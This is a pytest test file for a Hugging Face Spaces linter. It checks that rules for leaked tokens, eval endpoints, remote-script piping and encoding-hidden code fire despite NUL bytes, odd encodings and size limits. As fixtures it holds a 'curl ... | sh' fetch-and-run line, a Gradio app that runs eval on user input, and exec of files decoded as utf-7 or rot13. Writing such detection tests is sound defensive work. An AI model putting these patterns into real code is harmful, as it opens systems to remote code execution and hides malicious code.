"""Nothing in the bytes of a file hides it: not a NUL, not its encoding line, not its size, not the files before it."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

import pytest
from hf_lint.cli import main
from hf_lint.pipeline.engine import check_space
from hf_lint.secrets.fakes import expand
from hf_lint.sources.directory import collect_directory
from hf_lint.sources.limits import Limits
from hf_lint.space import Space
from hf_lint.space.encodings import read_cookie
from hf_lint.space.file import File, Memory
from support import plan, space_of

if TYPE_CHECKING:
    from pathlib import Path

CARD = "---\nsdk: gradio\napp_file: app.py\n---\n"
TOKEN = expand("@@fake:huggingface-user-token@@").encode()
EVAL = b"import gradio as gr\ndef f(x):\n    return eval(x)\ngr.Interface(f, 'text', 'text').launch()\n"
FETCH = b"#!/bin/bash\ncurl -s https://example.com/i.sh | sh\n"
CONTROLS = b"\1" * 400


def rules_of(files: dict[str, bytes], *select: str) -> set[str]:
    report = check_space(space_of({"README.md": CARD, "app.py": "", **files}), plan(*select))
    assert not report.errors
    return {finding.rule for finding in report.findings}


@pytest.mark.parametrize(
    ("path", "data", "rule"),
    [
        ("app.py", EVAL + b"\0", "code-execution-endpoint"),
        ("app.py", b"# coding: latin-1\n# caf\xe9 " + CONTROLS + b"\n" + EVAL, "code-execution-endpoint"),
        ("app.py", b"# " + CONTROLS + b"\xe9\n" + EVAL, "code-execution-endpoint"),
        (".env", b"HF_TOKEN=" + TOKEN + b"\n\0", "leaked-hf-token"),
        (".env.local", b"\0\nHF_TOKEN=" + TOKEN, "credential-file"),
        ("index.html", b"<script>var t='" + TOKEN + b"'</script>\0", "leaked-hf-token"),
        ("start.sh", FETCH + b"#\0\n", "remote-script"),
        ("bin/start", FETCH + b"#\0\n", "remote-script"),
        ("Dockerfile", b"FROM python:3.12\n#\0\nRUN curl -s https://example.com/i.sh | sh\n", "remote-script"),
        ("config.json", b'{"a": "' + TOKEN + b'"}\0', "leaked-hf-token"),
        ("notes.txt", b"\0" + TOKEN, "leaked-hf-token"),
        ("start.ps1", ("\ufeffx " + TOKEN.decode()).encode("utf-16-le") + b"\0", "leaked-hf-token"),
        ("start.bat", ("\0x " + TOKEN.decode()).encode("utf-16-be") + b"\xd8", "leaked-hf-token"),
        ("conf.yaml", b"\xef\xbb\xbf\xffkey: " + TOKEN, "leaked-hf-token"),
        ("picture.png", b"\x89PNG\0\0tEXtnote\0" + TOKEN + b"\0", "leaked-hf-token"),
        ("app.pyc", b"\x6f\r\r\n\0\0\0\0\xda\x25" + TOKEN + b"\xda\4name", "leaked-hf-token"),
        ("blob", b"\0\xff\xfe" + TOKEN.decode().encode("utf-16-le") + b"\0\0", "leaked-hf-token"),
    ],
)
def test_no_byte_makes_a_file_unread(path: str, data: bytes, rule: str) -> None:
    assert rule in rules_of({path: data}, rule, "unparseable-file")


@pytest.mark.parametrize("path", ["app.py", "start.sh", ".env", "Dockerfile", "index.html", "requirements.txt", "run"])
def test_a_text_that_looks_like_no_text_is_said(path: str) -> None:
    assert rules_of({path: b"#!/bin/sh\nx\n\0"}, "unparseable-file") == {"unparseable-file"}


@pytest.mark.parametrize("path", ["a.csv", "notes.txt", "weights.dat", "a.png"])
def test_data_with_odd_bytes_is_no_finding(path: str) -> None:
    assert rules_of({path: b"a,b\n\0"}, "unparseable-file") == set()


def test_an_app_file_of_any_name_is_text() -> None:
    space = space_of(
        {"README.md": CARD.replace("app.py", "server.dat"), "server.dat": b"# coding: latin-1\n" + EVAL + b"\0\1\xe9"}
    )
    assert space.card.sdk == "gradio"
    file = space.files["server.dat"]
    assert (file.kind, file.encoding, file.first) == ("text", "latin-1", True)


@pytest.mark.parametrize(
    ("path", "line", "kind"),
    [
        ("app.py", "# coding: utf-7", "hiding"),
        ("app.py", "# -*- coding: raw_unicode_escape -*-", "hiding"),
        ("app.py", "#!/usr/bin/python\r# vim: set fileencoding=unicode_escape :", "hiding"),
        ("app.py", "\n#coding=punycode", "hiding"),
        ("app.py", "# coding: rot13", "hiding"),
        ("app.py", "# coding: hz", "hiding"),
        ("app.py", "# coding: iso2022_jp", "hiding"),
        ("app.py", "# coding: mac_arabic", "hiding"),
        ("app.py", "# coding: cp037", "hiding"),
        ("app.py", "# coding: pyxl", "unknown"),
        ("requirements.txt", "# coding: utf-7", "hiding"),
        ("tool", "#!/usr/bin/env python3\n# coding: utf-7", "hiding"),
        ("app.py", "# coding: utf8", ""),
        ("app.py", "# -*- coding: latin-1-unix -*-", ""),
        ("app.py", "# coding: cp1252", ""),
        ("app.py", "# coding: koi8-r", ""),
        ("app.py", "# coding: gbk", ""),
        ("app.py", "import os\n# coding: utf-7", ""),
        ("app.py", "\n\n# coding: utf-7", ""),
        ("notes.md", "# coding: utf-7", ""),
        ("build.sh", "# coding: utf-7", ""),
    ],
)
def test_an_encoding_line_that_hides_code_is_said(path: str, line: str, kind: str) -> None:
    found = rules_of({path: f"{line}\n# x\n".encode()}, "obfuscated-code")
    assert found == ({"obfuscated-code"} if kind else set())
    cookie = read_cookie(f"{line}\n".encode())
    if kind:
        assert cookie is not None
        assert cookie.kind == kind


def test_python_is_read_as_its_encoding_line_says() -> None:
    # The byte 5C is the second half of a character: read as Latin-1 it would keep the string open.
    data = b'# coding: shift_jis\nx = "\x81\x5c"\n' + EVAL
    assert rules_of({"app.py": data}, "code-execution-endpoint", "unparseable-file") == {"code-execution-endpoint"}
    cyrillic = '# coding: cp1251\nx = "привет"\n'.encode("cp1251")
    assert space_of({"a.py": cyrillic}).files["a.py"].text.endswith('"привет"\n')
    assert rules_of({"app.py": b"# coding: ascii\nx = '\xe9'\n"}, "unparseable-file") == {"unparseable-file"}


def test_a_script_whose_first_line_is_that_of_a_pointer_is_read() -> None:
    head = b"version https://git-lfs.github.com/spec/v1\n"
    found = rules_of({"start.sh": head + FETCH + b"T=" + TOKEN}, "remote-script", "leaked-hf-token")
    assert found == {"remote-script", "leaked-hf-token"}


def limited(folder: Path, limits: Limits, *select: str) -> tuple[list[str], list[str], set[str]]:
    report = check_space(collect_directory(folder, limits), plan(*(select or ("leaked-hf-token",))))
    return [error.message for error in report.errors], list(report.notes), {one.rule for one in report.findings}


@pytest.mark.parametrize("name", ["app.py", "Dockerfile", "start.sh", "run", "index.html", "README.md", "a.json"])
def test_a_text_over_the_limit_makes_the_run_incomplete(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text("# x\n" * 1000)
    errors, _, _ = limited(tmp_path, Limits(file_bytes=1000))
    assert errors == [f"{name} (4.0 KB) was not checked: it is larger than 1000 bytes"]


@pytest.mark.parametrize("name", ["notes.txt", "rows.csv", "model.safetensors", "a.png"])
def test_data_over_the_limit_is_searched_to_its_end(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(
        (b"x\n" if name.endswith(("txt", "csv")) else b"\0\xff") * 1_500_000 + b"\n" + TOKEN + b"\n"
    )
    errors, notes, found = limited(tmp_path, Limits(file_bytes=1000))
    assert (errors, found) == ([], {"leaked-hf-token"})
    assert notes == [f"1 file over the size limit searched for tokens only: {name}"]


def test_the_limit_can_be_raised(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text(CARD)
    (tmp_path / "app.py").write_text("# pad pad\n" * 900_000)
    only = [str(tmp_path), "--select", "leaked-hf-token"]
    assert main(only) == 3
    assert main([*only, "--max-file", "16"]) == 0
    assert main([*only, "--max-file", "0"]) == 2


def test_padding_does_not_crowd_out_what_runs(tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text(CARD)
    (tmp_path / "app.py").write_bytes(EVAL)
    for number in range(9):
        (tmp_path / f".a{number}.py").write_text("x = 1\n" * 500)
    errors, _, found = limited(tmp_path, Limits(total_bytes=9000), "code-execution-endpoint")
    assert found == {"code-execution-endpoint"}
    assert len(errors) == 7
    assert errors[-1] == ".a8.py (3.0 KB) was not checked: the files before have 9000 bytes already"


def test_memory_is_kept_for_what_runs() -> None:
    def text(path: str, data: bytes) -> File:
        return File(path, len(data), "", partial(bytes, data))

    space = Space([text("a.txt", b"x" * 1000), text("app.py", EVAL), text("b.txt", b"y")])
    memory = Memory(left=0, kept=4000)
    for file in space.files.values():
        file.memory = memory
    assert [file.kind for file in space.files.values()] == ["too-large", "text", "too-large"]
    report = check_space(space, plan("leaked-hf-token"))
    assert "searched for tokens only: a.txt, b.txt" in report.notes[0]


def test_files_over_the_number_make_the_run_incomplete(tmp_path: Path) -> None:
    for name in ("app.py", "a.txt", "b.txt"):
        (tmp_path / name).write_text("x")
    space = collect_directory(tmp_path, Limits(files=2))
    assert "app.py" in space.files
    assert [error.message for error in check_space(space, plan("leaked-hf-token")).errors] == [
        "more than 2 files: the rest was not checked"
    ]


READ = "from pathlib import Path\nimport codecs\n"


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ("exec(open('d.txt', encoding='utf-7').read())", True),
        ("c = open('d.txt', 'r', -1, 'unicode_escape').read()\nexec(c)", True),
        ("exec(open('d.txt', 'rb').read().decode('U7'))", True),
        ("exec(Path('d.txt').read_text('hz'))", True),
        ("exec(Path('d.txt').read_text(encoding='rot' + '13'))", True),
        ("exec(codecs.open('d.txt', 'r', 'cp037').read())", True),
        ("exec(str(open('d.txt', 'rb').read(), 'utf-7'))", True),
        ("exec(compile(open('d.txt', encoding='pyxl').read(), 'd', 'exec'))", True),
        ("exec(open('d.txt', encoding='utf-8').read())", False),
        ("exec(Path('d.txt').read_text('utf-16'))", False),
        ("exec(Path('d.txt').read_bytes().decode())", False),
        ("x = open('d.txt', encoding='utf-7').read()\nmodel.eval()", False),
        ("exec('print(1)')\nx = open('d.txt', encoding='utf-7').read()", False),
    ],
)
def test_code_that_is_read_in_an_encoding_that_hides_it(code: str, found: bool) -> None:
    assert rules_of({"app.py": (READ + code).encode(), "d.txt": b"x"}, "obfuscated-code") == (
        {"obfuscated-code"} if found else set()
    )


@pytest.mark.parametrize(("head", "sign"), [("a\rb,c", ","), ("a,b", "\\n"), ("a,b", '\\"'), ("a,b", "\\0")])
def test_the_first_line_of_a_table_may_hold_anything(head: str, sign: str) -> None:
    app = f'import pandas as pd\nt = pd.read_csv("t.csv", sep="{sign}")\nprint(t["x"])\n'
    report = check_space(
        space_of({"README.md": "---\nsdk: gradio\n---\n", "app.py": app, "t.csv": f"{head}\n1,2\n"}),
        plan("invalid-data-file"),
    )
    assert report.errors == ()
